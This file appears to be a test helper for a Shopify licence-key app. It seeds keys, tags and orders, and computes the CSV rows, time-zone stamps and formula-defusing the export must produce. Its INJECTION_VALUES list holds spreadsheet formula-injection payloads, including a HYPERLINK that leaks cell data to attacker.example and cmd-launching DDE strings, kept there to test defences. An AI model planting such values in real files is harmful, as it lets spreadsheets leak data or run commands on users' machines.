// A library worth exporting (keys of every status and type, several tags, orders with customers,
// values a spreadsheet would run as formulas) and what its CSV must hold, computed independently of
// the export code: Prisma reads and Intl's own time-zone formatting.
import { parse } from "csv-parse/sync";
import prisma from "~/db.server";
import { installShop } from "tests/helpers/shopify";

export const INJECTION_VALUES = [
  '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTAB-LEAD",
  'ＡＢＣ,with "quotes", comma',
  "ключ-ünïcödé-鍵",
];

export interface SeededLibrary {
  shopId: number;
  tags: { alpha: number; beta: number };
  keyIds: number[];
}

/**
 * `count` keys (plus the injection values) for the shop: every 3rd in alpha, every 3rd+1 in beta,
 * every 6th in both; every 5th assigned, every 7th used (with orders), every 4th auto-generated.
 */
export async function seedLibrary(
  domain: string,
  { count = 60, timeZone = "Europe/Berlin" } = {},
): Promise<SeededLibrary> {
  const shop = await installShop(domain);
  // Its orders' keys carry assignment dates up to 2027: with the delivery email on, the background
  // round would mail them and mark them Used under the exports being checked. Delivery emails are
  // tested in tests/fulfilment/delivery-email.test.ts.
  await prisma.shop.update({
    where: { id: shop.id },
    data: { ianaTimezone: timeZone, email: `owner@${domain}`, deliveryEmailEnabled: false },
  });
  const alpha = await prisma.tag.create({ data: { shopId: shop.id, name: "alpha" } });
  const beta = await prisma.tag.create({ data: { shopId: shop.id, name: "beta" } });
  const untagged = await prisma.tag.findFirstOrThrow({ where: { shopId: shop.id, kind: "UNTAGGED" } });

  await prisma.$executeRaw`
    INSERT INTO "order" ("shop_id", "shopify_id", "name", "email", "updated_at")
    SELECT ${shop.id}, 820000000 + g, '#' || (1000 + g), CASE WHEN g % 4 = 0 THEN NULL ELSE 'buyer' || g || '@example.com' END,
      now() AT TIME ZONE 'UTC'
    FROM generate_series(1, 20) g`;
  const orders = await prisma.order.findMany({
    where: { shopId: shop.id },
    orderBy: { id: "asc" },
    select: { id: true },
  });

  const values = [
    ...Array.from({ length: count }, (_, i) => `${domain.slice(0, 5).toUpperCase()}-${String(i).padStart(6, "0")}-KEY`),
    ...INJECTION_VALUES,
  ];
  const keyIds: number[] = [];
  for (const [i, value] of values.entries()) {
    const status = i % 7 === 0 ? "USED" : i % 5 === 0 ? "ASSIGNED" : "PENDING";
    const orderId = status === "PENDING" ? null : orders[i % orders.length].id;
    // Times spread over a year (both sides of daylight saving), with milliseconds.
    const created = new Date(Date.UTC(2026, 0, 1) + i * 5 * 86_400_000 + 3_723_456);
    const key = await prisma.licenseKey.create({
      data: {
        shopId: shop.id,
        value,
        type: i % 4 === 0 ? "AUTO_GENERATED" : "UPLOADED",
        status,
        createdAt: created,
        assignedAt: status === "PENDING" ? null : new Date(created.getTime() + 3_600_000 * 30),
        usedAt: status === "USED" ? new Date(created.getTime() + 3_600_000 * 80) : null,
        orderId,
      },
    });
    keyIds.push(key.id);
    const tagIds =
      i % 6 === 0 ? [alpha.id, beta.id] : i % 3 === 0 ? [alpha.id] : i % 3 === 1 ? [beta.id] : [untagged.id];
    await prisma.keyTag.createMany({
      data: tagIds.map((tagId) => ({ tagId, keyId: key.id, shopId: shop.id, status })),
    });
  }
  return { shopId: shop.id, tags: { alpha: alpha.id, beta: beta.id }, keyIds };
}

function wallClock(date: Date | null, timeZone: string) {
  if (!date) return "";
  const p = Object.fromEntries(
    new Intl.DateTimeFormat("en-CA", {
      timeZone,
      hourCycle: "h23",
      year: "numeric",
      month: "2-digit",
      day: "2-digit",
      hour: "2-digit",
      minute: "2-digit",
      second: "2-digit",
    })
      .formatToParts(date)
      .map((part) => [part.type, part.value]),
  );
  return `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute}:${p.second}`;
}

/** What a spreadsheet shows for a cell the export had to defuse. */
export function shown(value: string) {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value;
}

const TYPE = { UPLOADED: "Uploaded", AUTO_GENERATED: "Auto-generated" } as const;
const STATUS = { PENDING: "Pending", ASSIGNED: "Assigned", USED: "Used", RETIRED: "Retired" } as const;

/** The rows the database holds for this scope, in key order, as the CSV must show them. */
export async function expectedRows({
  shopId,
  tagId = null,
  q = "",
  status = null,
  timeZone,
}: {
  shopId: number;
  tagId?: number | null;
  q?: string;
  status?: keyof typeof STATUS | null;
  timeZone: string;
}) {
  // key_tag.key_id is no Prisma relation (see schema.prisma): memberships are read on their own.
  const memberships = await prisma.keyTag.findMany({
    where: { shopId },
    select: { keyId: true, tagId: true, tag: true },
  });
  const tagsOf = new Map<number, string[]>();
  for (const m of memberships) tagsOf.set(m.keyId, [...(tagsOf.get(m.keyId) ?? []), m.tag.name]);
  const keys = await prisma.licenseKey.findMany({
    where: {
      shopId,
      ...(tagId ? { id: { in: memberships.filter((m) => m.tagId === tagId).map((m) => m.keyId) } } : {}),
      ...(q ? { value: { contains: q, mode: "insensitive" as const } } : {}),
      ...(status ? { status } : {}),
    },
    orderBy: { id: "asc" },
    include: { order: true },
  });
  return keys.map((k) =>
    [
      k.value,
      TYPE[k.type],
      STATUS[k.status],
      (tagsOf.get(k.id) ?? []).sort().join(", "),
      k.order?.name ?? "",
      k.order ? String(k.order.shopifyId) : "",
      k.order?.email ?? "",
      wallClock(k.createdAt, timeZone),
      wallClock(k.assignedAt, timeZone),
      wallClock(k.usedAt, timeZone),
    ].map(shown),
  );
}

export const HEADER = (timeZone: string) => [
  "Licence key",
  "Type",
  "Status",
  "Tags",
  "Order name",
  "Order ID",
  "Customer email",
  `Added at (${timeZone})`,
  `Assigned at (${timeZone})`,
  `Used at (${timeZone})`,
];

/** A CSV file as a spreadsheet reads it: BOM checked and dropped, CRLF records. */
export function readCsv(file: Buffer | string) {
  const buffer = typeof file === "string" ? Buffer.from(file, "utf8") : file;
  if (!buffer.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))) throw new Error("The CSV has no UTF-8 BOM.");
  const text = buffer.toString("utf8");
  if (/[^\r]\n/.test(text.replace(/"[^"]*"/g, ""))) throw new Error("A record ends with a bare LF instead of CRLF.");
  return parse(text, { bom: true }) as string[][];
}
